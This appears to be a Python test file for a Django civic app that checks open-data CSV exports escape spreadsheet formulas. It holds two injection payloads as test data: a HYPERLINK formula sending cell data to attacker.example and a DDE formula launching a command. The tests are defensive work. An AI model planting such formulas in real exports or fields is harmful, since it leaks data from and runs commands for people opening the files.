"""Hardening, round two (issue 13): what an outside attacker and a careless operator found.

Each test reproduces one finding and fails without its fix:
1. a formula in a topic's title or withdrawal note runs when the open-data CSV is opened;
9. deeply nested JSON answered an HTML 500;
10. a NUL byte in a query parameter answered 500 (API and admin list filters);
12. an activity's 6-digit check-in code could be guessed without limit;
13. /healthz/ redirected to HTTPS and HSTS preload/includeSubDomains were implied;
15. large anonymous multipart bodies were parsed whole on endpoints that take no file.
"""

import csv
import io

import pytest
from django.test import override_settings
from django.urls import reverse

from core.spreadsheets import safe_cell
from deliberation import services as deliberation_services
from tests.deliberation.conftest import Flow, world  # noqa: F401  (a fixture)

pytestmark = pytest.mark.django_db

OPEN_DATA = "/api/v1/open-data/decisions/"
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def flow(world, time_machine):  # noqa: F811
    return Flow(world, time_machine)


# 1. Formula injection
def test_open_data_csv_writes_formulas_as_text(api_client, flow):
    topic = flow.raise_topic(title=HYPERLINK)
    deliberation_services.topic_withdraw(actor=flow.w.author, topic=topic, note=DDE)
    response = api_client.get(OPEN_DATA, {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
    row = next(row for row in rows if HYPERLINK in row["title"])
    assert row["title"] == "'" + HYPERLINK
    assert row["outcome_reason"] == "'" + DDE
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), value
    # JSON is data, not a spreadsheet: the title stays as it was typed.
    titles = [item["title"] for item in api_client.get(OPEN_DATA).json()["results"]]
    assert HYPERLINK in titles


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("更换楼道灯", "更换楼道灯"),
        (-3, -3),
        (None, None),
    ],
)
def test_one_spreadsheet_safety_rule(value, expected):
    assert safe_cell(value) == expected


def test_every_export_uses_the_one_helper():
    from civic import dashboard_tables, opendata
    from surveys import exports

    assert exports.cell is safe_cell
    assert dashboard_tables.spreadsheet_safe is safe_cell
    assert opendata.safe_row.__module__ == "core.spreadsheets"
